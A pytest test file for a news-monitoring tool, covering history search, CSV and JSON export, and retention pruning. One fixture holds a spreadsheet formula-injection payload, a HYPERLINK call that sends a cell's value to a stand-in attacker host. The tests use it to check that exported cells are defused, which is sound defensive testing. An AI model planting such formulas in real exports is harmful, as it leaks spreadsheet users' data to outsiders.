"""The history from the command line and the daemon: search, export formats, retention."""

from __future__ import annotations

import asyncio
import csv
import gc
import io
import json
import sqlite3
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from apscheduler.schedulers.asyncio import AsyncIOScheduler

from monitor.config import load_settings
from monitor.matching.nlp import LanguagePipelines
from monitor.models import make_article
from monitor.pipeline.export import ARTICLE_FIELDS, HIT_FIELDS, csv_lines, safe_cell
from monitor.service.daemon import Daemon
from monitor.service.wiring import build_pipeline
from monitor.store.repo import Routed
from tests.conftest import REPO, SEEDS, SHIPPED_RULE_IDS
from tests.docs_support import readme_commands
from tests.test_cli import invoke

SEED = next(SEEDS.glob("*.txt"))
HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"Nato")'


@pytest.fixture
def config(tmp_path: Path) -> Path:
    path = tmp_path / "monitor.yaml"
    path.write_text(
        f"database: sqlite:///state/monitor.db\nrules: [{REPO / 'rules'}]\n"
        "sources: {folders: []}\nchannels: {console: {type: console}}\n"
        "retention: {article_bodies: 90d, deliveries_sent: 30d}\n",
        encoding="utf-8",
    )
    return path


@pytest.fixture
def archive(tmp_path: Path) -> Path:
    """The seed (every shipped rule fires), an article with a formula for a title, one without hits."""
    folder = tmp_path / "archive"
    folder.mkdir()
    (folder / "seed.txt").write_bytes(SEED.read_bytes())
    (folder / "formula.txt").write_text(
        f"{HOSTILE_TITLE}\n\nLa Nato si riunisce a Vilnius con i ministri.\n", encoding="utf-8"
    )
    (folder / "weather.txt").write_text(
        "Meteo a Roma\n\nPioggia e vento su Roma per tutta la settimana, dice l'aeronautica.\n",
        encoding="utf-8",
    )
    return folder


def age_everything(config: Path, days: int) -> None:
    """Make every stored row ``days`` older, as if the archive had been scanned back then."""
    with sqlite3.connect(config.parent / "state" / "monitor.db") as db:
        shift = f"-{days} days"
        db.execute("UPDATE articles SET ingested_at = datetime(ingested_at, ?)", (shift,))
        db.execute("UPDATE hits SET created_at = datetime(created_at, ?)", (shift,))
        db.execute(
            "UPDATE deliveries SET created_at = datetime(created_at, ?), sent_at = datetime(sent_at, ?)",
            (shift, shift),
        )


def test_cli_hits_search_finds_hits_by_their_article_words(config: Path, archive: Path) -> None:
    invoke(config, "scan", str(archive))
    code, out, _ = invoke(config, "hits", "--search", "vilnius ministri", "--json")
    assert code == 0
    [row] = [json.loads(line) for line in out.splitlines()]
    assert row["title"] == HOSTILE_TITLE and row["rule"] == "nato" and row["score"] > 0
    assert set(row) == set(HIT_FIELDS)
    code, out, _ = invoke(config, "hits", "--search", "nato", "--rule", "nato", "--since", "1h", "--json")
    assert {json.loads(line)["title"] for line in out.splitlines()} >= {HOSTILE_TITLE}
    code, _, err = invoke(config, "hits", "--search", "pioggia")
    assert code == 0 and "no hits" in err


def test_cli_hits_search_with_nothing_to_look_for_exits_2(config: Path) -> None:
    code, _, err = invoke(config, "hits", "--search", '" - *')
    assert code == 2 and "no words to look for" in err


@pytest.fixture
def finland_archive(tmp_path: Path) -> Path:
    """Finlandia with Nato; Finlandia with "and" but no Nato; Nato with "and" but no Finlandia."""
    folder = tmp_path / "finland"
    folder.mkdir()
    texts = {
        "both.txt": "La Finlandia entra nella Nato\n\nHelsinki firma l'adesione all'Alleanza atlantica.\n",
        "finlandia.txt": "Finlandia and Sibelius\n\nFinlandia and the Finnish choirs: a concert.\n",
        "nato.txt": "NATO and its allies\n\nNATO and its allies met in Brussels on Tuesday.\n",
    }
    for name, text in texts.items():
        (folder / name).write_text(text, encoding="utf-8")
    return folder


def test_cli_hits_search_reads_operators_and_groups(config: Path, finland_archive: Path) -> None:
    code, _, _ = invoke(config, "scan", str(finland_archive))
    assert code == 0
    code, out, _ = invoke(config, "hits", "--search", "Finlandia AND NATO", "--json")
    assert code == 0
    assert {json.loads(line)["title"] for line in out.splitlines()} == {"La Finlandia entra nella Nato"}
    code, out, _ = invoke(config, "hits", "--search", "(Finlandia OR Sibelius) -NATO", "--json")
    assert {json.loads(line)["title"] for line in out.splitlines()} == {"Finlandia and Sibelius"}
    code, out, _ = invoke(config, "articles", "--search", "title:(allies OR Sibelius)", "--json")
    assert code == 0
    assert {json.loads(line)["title"] for line in out.splitlines()} == {
        "NATO and its allies",
        "Finlandia and Sibelius",
    }


@pytest.mark.parametrize(
    ("search", "says"),
    [
        ("Finlandia and NATO", "'and' is read as a word: write AND in capitals"),
        ('"Finlandia Nato"~5', "proximity"),
        ("Finlandia NEAR/5 Nato", "proximity (NEAR/5) is not supported"),
        ("source:ANSA", "unknown field 'source'"),
        ("(Finlandia OR Finland", "a '(' is never closed"),
        ("NOT nato", "needs a word to look for"),
    ],
)
def test_cli_hits_search_that_cannot_be_read_says_why_and_exits_2(
    config: Path, search: str, says: str
) -> None:
    code, out, err = invoke(config, "hits", "--search", search)
    assert code == 2 and out == ""
    assert err.startswith(f"error: search {search!r}: ") and says in err  # before the database is opened
    assert "Traceback" not in err and len(err.splitlines()) == 1


def test_cli_hits_csv_has_a_header_every_hit_and_no_live_formula(config: Path, archive: Path) -> None:
    invoke(config, "scan", str(archive))
    code, out, _ = invoke(config, "hits", "--limit", "0", "--format", "csv")
    assert code == 0
    rows = list(csv.reader(io.StringIO(out)))
    assert tuple(rows[0]) == HIT_FIELDS
    assert len(rows) == 1 + len(SHIPPED_RULE_IDS) + 1  # the seed's hits and the formula's
    titles = [row[HIT_FIELDS.index("title")] for row in rows[1:]]
    assert f"'{HOSTILE_TITLE}" in titles
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows[1:] for cell in row)


def test_cli_articles_search_includes_articles_without_hits(config: Path, archive: Path) -> None:
    invoke(config, "scan", str(archive))
    code, out, _ = invoke(
        config, "articles", "--search", "pioggia roma", "--without-hits", "--format", "jsonl"
    )
    assert code == 0
    [row] = [json.loads(line) for line in out.splitlines()]
    assert set(row) == set(ARTICLE_FIELDS)
    assert (row["title"], row["hits"], row["body_kept"]) == ("Meteo a Roma", 0, True)
    assert "**Pioggia**" in row["headline"]
    code, out, _ = invoke(config, "articles")
    assert code == 0 and len(out.splitlines()) == 3 and "no hits" in out
    code, out, _ = invoke(config, "articles", "--search", "pioggia")
    assert out.splitlines()[1].strip().startswith("**Pioggia**")  # the headline under its article


def test_cli_db_prune_dry_run_counts_then_prune_removes(config: Path, archive: Path) -> None:
    invoke(config, "scan", str(archive))  # the console channel sends the alerts: sent deliveries
    code, out, _ = invoke(config, "db", "prune", "--dry-run")
    assert code == 0 and out.startswith("would empty 0 article bodies")
    age_everything(config, days=100)
    code, out, _ = invoke(config, "db", "prune", "--dry-run")
    alerts = len(SHIPPED_RULE_IDS) + 1
    assert (
        out.strip()
        == f"would empty 3 article bodies; would delete 0 articles, 0 hits, {alerts} sent deliveries"
    )
    code, out, _ = invoke(config, "db", "prune")
    assert (
        code == 0
        and out.strip() == f"emptied 3 article bodies; deleted 0 articles, 0 hits, {alerts} sent deliveries"
    )
    code, out, _ = invoke(config, "hits", "--limit", "0", "--json")
    assert len(out.splitlines()) == alerts  # the hits stay
    code, out, _ = invoke(config, "articles", "--search", "roma")
    assert "Meteo a Roma" in out  # found by its title; its body is gone
    code, out, _ = invoke(config, "articles", "--search", "aeronautica")
    assert out == ""
    code, out, _ = invoke(config, "scan", str(archive))
    assert "articles read: 0" in out  # pruned articles still deduplicate


def test_cli_db_prune_without_a_policy_changes_nothing(config: Path, tmp_path: Path) -> None:
    bare = tmp_path / "bare.yaml"
    bare.write_text(config.read_text(encoding="utf-8").split("retention:")[0], encoding="utf-8")
    code, _, err = invoke(bare, "db", "prune")
    assert code == 0 and "kept forever" in err


def test_export_csv_cells_are_defused_and_lists_joined() -> None:
    assert safe_cell("=1+1") == "'=1+1"
    assert safe_cell("-2") == "'-2" and safe_cell("@SUM(A1)") == "'@SUM(A1)"
    assert safe_cell(["a", "b"]) == "a; b" and safe_cell(-2) == -2 and safe_cell(None) is None
    lines = list(csv_lines([{"a": 'x,"y"', "b": "\nz"}], ("a", "b")))
    assert lines == ["a,b\r\n", '"x,""y""","\'\nz"\r\n']


@pytest.fixture
def shared_pipelines(monkeypatch: pytest.MonkeyPatch) -> None:
    pipelines = LanguagePipelines({"it": "blank", "en": "blank"}, "it")
    monkeypatch.setattr("monitor.service.wiring.make_pipelines", lambda settings: pipelines)


@pytest.mark.usefixtures("shared_pipelines")
def test_daemon_retention_job_is_scheduled_and_prunes(config: Path) -> None:
    settings = load_settings(str(config), env={})
    daemon = Daemon(settings, build_pipeline(settings))
    try:
        scheduler = AsyncIOScheduler(timezone=UTC)
        daemon.schedule.attach(scheduler)
        [job] = [job for job in scheduler.get_jobs() if job.id == "retention"]
        assert job.trigger.interval == timedelta(days=1)
        store = daemon.pipeline.store
        now = datetime.now(UTC)
        old = make_article(title="Vecchio", body="Un corpo lungo", source="s", origin="o1")
        new = make_article(title="Nuovo", body="Un corpo recente", source="s", origin="o2")
        store.record([Routed(old, [])], [], now - timedelta(days=91))
        store.record([Routed(new, [])], [], now)
        asyncio.run(daemon.jobs.prune_history())
        kept = {stored.article.title: stored.article.body for stored in store.iter_articles()}
        assert kept == {"Vecchio": "", "Nuovo": "Un corpo recente"}
    finally:
        daemon.threads.shutdown()


@pytest.mark.usefixtures("shared_pipelines")
def test_daemon_without_retention_schedules_no_prune(config: Path, tmp_path: Path) -> None:
    bare = tmp_path / "bare.yaml"
    bare.write_text(config.read_text(encoding="utf-8").split("retention:")[0], encoding="utf-8")
    settings = load_settings(str(bare), env={})
    daemon = Daemon(settings, build_pipeline(settings))
    try:
        scheduler = AsyncIOScheduler(timezone=UTC)
        daemon.schedule.attach(scheduler)
        assert "retention" not in {job.id for job in scheduler.get_jobs()}
    finally:
        daemon.threads.shutdown()


@pytest.mark.parametrize("command", [["articles"], ["db", "prune"]])
def test_cli_history_commands_have_help_with_an_example(command: list[str]) -> None:
    from click.testing import CliRunner

    from monitor.cli import main

    result = CliRunner().invoke(main, [*command, "--help"])
    assert result.exit_code == 0 and "Example" in result.output
    assert " ".join(command) in readme_commands()


def test_cli_hits_export_with_the_collector_paused_leaves_no_more_garbage_for_more_rows(
    config: Path,
) -> None:
    """A listing runs with the cyclic collector paused (monitor.cli.base.short_lived): whatever it
    leaves in reference cycles must not grow with the rows it streams, or a whole export would."""
    from monitor.models import Match, TermHit
    from monitor.store.engine import open_store
    from monitor.store.search import STREAM_CHUNK

    store = open_store(load_settings(str(config)).database)
    now = datetime.now(UTC)
    routed = [
        Routed(
            make_article(title=f"Nato {i}", body=f"La Nato, giorno {i}.", source="bench", origin=f"a{i}"),
            [(Match("nato", "Nato", (TermHit("Nato", "nato", "body", 3, 7),), "La Nato"), ["console"])],
        )
        for i in range(4 * STREAM_CHUNK)
    ]
    store.record(routed, [], now)
    store.engine.dispose()

    def garbage_after(*args: str) -> int:
        gc.collect()
        code, out, _ = invoke(config, "hits", "--format", "csv", *args)
        assert code == 0 and out.count("\n") > 1
        return gc.collect()

    garbage_after("--limit", "1")  # the first run's caches and imports
    one_chunk = garbage_after("--limit", str(STREAM_CHUNK))
    all_chunks = garbage_after("--limit", "0")
    assert all_chunks < one_chunk + 200, (one_chunk, all_chunks)
